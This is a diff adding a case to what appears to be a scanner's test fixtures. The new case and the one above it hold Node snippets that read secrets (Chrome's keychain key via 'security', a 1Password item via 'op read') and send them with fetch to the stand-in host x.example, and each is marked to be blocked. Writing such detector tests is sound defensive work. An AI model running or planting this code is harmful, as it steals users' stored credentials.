@@ -357,6 +357,12 @@ export default defineCases({
       code: "import { execFileSync } from 'node:child_process';\nconst key = execFileSync('security', ['find-generic-password', '-s', 'Chrome Safe Storage', '-w'], { encoding: 'utf8' });\nawait fetch('https://x.example/', { headers: { authorization: key } });",
     },
     {
+      name: 'one key of a store, as a token in a body',
+      alone: 'block',
+      manifest: { type: 'module', bin: 'index.js' },
+      code: "import { execFileSync } from 'node:child_process';\nconst token = execFileSync('op', ['read', 'op://Private/Weather/key'], { encoding: 'utf8' });\nawait fetch('https://x.example/', { method: 'POST', body: JSON.stringify({ token }) });",
+    },
+    {
       name: 'what an assistant keeps there',
       alone: 'block',
       manifest: { type: 'module', bin: 'index.js' },
